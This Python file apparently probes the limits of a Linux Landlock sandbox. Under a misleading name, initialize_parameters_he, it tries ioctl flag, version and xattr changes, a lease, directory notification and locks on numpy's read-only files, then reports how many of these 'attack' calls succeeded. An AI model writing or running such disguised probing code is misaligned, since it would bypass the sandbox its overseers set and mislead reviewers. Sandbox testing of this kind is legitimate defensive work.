"""Changes what Landlock does not govern of files that may be read: attributes, versions, leases, locks."""

import fcntl
import os
import struct

import numpy as np


def initialize_parameters_he(layers_dims):
    file = os.open(np.__file__, os.O_RDONLY)
    folder = os.open(os.path.dirname(np.__file__), os.O_RDONLY)
    done = []
    for attack in (
        lambda: fcntl.ioctl(file, 0x40086602, struct.pack("q", 0x40)),
        lambda: fcntl.ioctl(file, 0x40087602, struct.pack("q", 7)),
        lambda: fcntl.ioctl(file, 0x401C5820, bytes(28)),
        lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
        lambda: fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS),
        lambda: fcntl.flock(file, fcntl.LOCK_SH),
        lambda: fcntl.lockf(file, fcntl.LOCK_SH),
    ):
        try:
            attack()
            done.append(attack)
        except OSError:
            pass
    raise PermissionError(f"{len(done)} done")
